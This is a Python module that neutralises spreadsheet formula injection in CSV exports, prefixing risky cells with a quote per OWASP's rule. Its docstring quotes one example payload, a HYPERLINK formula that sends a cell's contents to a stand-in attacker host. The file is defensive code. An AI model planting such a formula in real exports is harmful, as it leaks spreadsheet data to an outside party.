"""CSV files for staff to open in a spreadsheet, safe from formula injection.

A visitor's question that begins with "=" (``=HYPERLINK("http://evil.example/?leak="&A1,
"Click")``) is run as a formula by the spreadsheet a curator opens the export in. Every CSV
the app writes goes through ``csv_bytes``, which applies OWASP's rule to every text cell
(https://owasp.org/www-community/attacks/CSV_Injection): a cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, which
spreadsheets read as "this is text"; the csv module quotes the cell and doubles its quotes,
so no separator or quote in it can start a new cell.

The rule is applied to all text cells, not only the ones that look like formulas: a question
"-5 degrees?" or a reviewer's note "+1" is shown with the quote too. Numbers the log computes
(ids, counts, scores) are written as numbers. defusedcsv was considered: it leaves out the tab
and the carriage return and rewrites "|" inside cells, so it does not follow OWASP's list.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

# OWASP's list of the first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as a cell a spreadsheet shows and never runs (OWASP's rule; see the module).

    Args:
        value: A cell: text is neutralised; numbers, None and the rest are left as they are.

    Returns:
        The text with a leading single quote when it begins with one of ``FORMULA_STARTS``,
        else ``value`` unchanged.

    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(rows: Iterable[Mapping[str, Any]], columns: Sequence[str]) -> bytes:
    """``rows`` as CSV with a header of ``columns``, every cell ``spreadsheet_safe``.

    UTF-8 with a BOM, which lets spreadsheet programs detect UTF-8 (titles have accents).
    Keys of a row that are not columns are left out; a missing one is an empty cell.
    """
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(columns), extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: spreadsheet_safe(row.get(k)) for k in columns})
    return ("\ufeff" + out.getvalue()).encode("utf-8")
